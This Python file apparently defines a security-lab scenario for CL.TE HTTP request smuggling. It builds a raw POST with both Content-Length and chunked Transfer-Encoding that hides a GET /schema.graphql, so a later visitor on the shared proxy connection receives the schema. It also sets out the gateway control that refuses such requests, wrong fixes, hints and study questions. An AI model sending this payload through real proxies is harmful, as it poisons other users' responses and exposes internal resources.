"""A request hidden in the body of another (CL.TE request smuggling)."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from scenarios.lab.lax import lax_hop, lax_server
from scenarios.lab.model import Bypass, Control, Outcome, Scenario, WrongFix
from scenarios.lab.target import Target

ID = "smuggling"
INSIDE = "/schema.graphql"
HIDDEN = f"GET {INSIDE} HTTP/1.1\r\nHost: shop\r\nX-Rest: ".encode()
BODY = b"0\r\n\r\n" + HIDDEN
SMUGGLED = b"POST / HTTP/1.1\r\nHost: shop\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n%s" % (
    len(BODY),
    BODY,
)


@contextmanager
def chain(lab: Target) -> Iterator[str]:
    """A lax proxy, and behind it the gateway; while the scenario is weak, a lax server in the gateway's place."""
    if lab.is_weak(ID):
        with lax_server(lab.service_url("storefront")) as behind, lax_hop(behind, (INSIDE,)) as url:
            yield url
    else:
        with lax_hop(lab.instance.public_url, (INSIDE,)) as url:
            yield url


def attack(lab: Target) -> Outcome:
    """Ask plainly; then smuggle; then a visitor comes by the same connection."""
    with chain(lab) as url:
        plainly = lab.call("nobody", "GET", INSIDE, base_url=url).status
        smuggled = lab.client.send_raw("the attacker", "POST / with two lengths", SMUGGLED, url)
        visitor = lab.call("nobody", "GET", "/", base_url=url)
    poisoned = b"type Query {" in visitor.body
    return Outcome(
        breached=poisoned,
        got="what is inside, in the answer to somebody else's request" if poisoned else "a refusal",
        measures={
            "asked plainly": str(plainly),
            "the smuggling request": f"{smuggled.status} {(smuggled.json() or {}).get('reason', '')}".strip(),
            "the visitor got": "the schema" if poisoned else "the page",
        },
        shows="POST / with two lengths",
    )


def benign(lab: Target) -> bool:
    """Visitors open the page through the same proxy."""
    with chain(lab) as url:
        return all(b"<html" in lab.call("nobody", "GET", "/", base_url=url).body for _ in range(2))


SCENARIO = Scenario(
    id=ID,
    title="A request in the body of another",
    story=(
        "A proxy of somebody else's stands in front; all visitors share its connection to the inside. A request states "
        "two lengths. The proxy believes one, the server behind the other: the rest begins the next visitor's request."
    ),
    references=("CWE-444", "RFC 9112 sections 6.1 and 11.2"),
    claims=("C13", "C14"),
    difficulty=5,
    minutes=10,
    weaknesses=(Bypass("behind a lax proxy stands a lax server that believes Transfer-Encoding, not the gateway"),),
    control=Control(
        name="a request whose end is in doubt is refused, and its connection closed",
        where="gateway",
        lines="# always so: 400 length_and_coding (docs/strictness.md)",
        elsewhere="# Envoy refuses both together, too (allow_chunked_length: false, the default)",
    ),
    attack=attack,
    benign=benign,
    hints=(
        "The body is “0, empty line, GET /schema.graphql …”. How long is it for one who counts chunks?",
        "Whose request does what is left over become a part of?",
        "One of the two must refuse. Repairing it is what brought this about.",
    ),
    wrong_fixes=(
        WrongFix("forbid /schema.graphql in the proxy", "It does: it never sees this request, only a body."),
        WrongFix("let Transfer-Encoding win, as the RFC says", "It helps where both do; the proxy in front does not."),
        WrongFix("look for GET in bodies", "Bodies may hold that, and the hidden request can be a POST."),
    ),
    questions=(
        (
            "What is compared here?",
            "Behind the same lax proxy: a lax server of the lab's, or the gateway. Both servers of the lab stand for "
            "real ones of some years ago; those of today refuse.",
        ),
        ("Would a connection for each request help?", "Yes, and cost a handshake each: nothing is left for the next."),
    ),
)
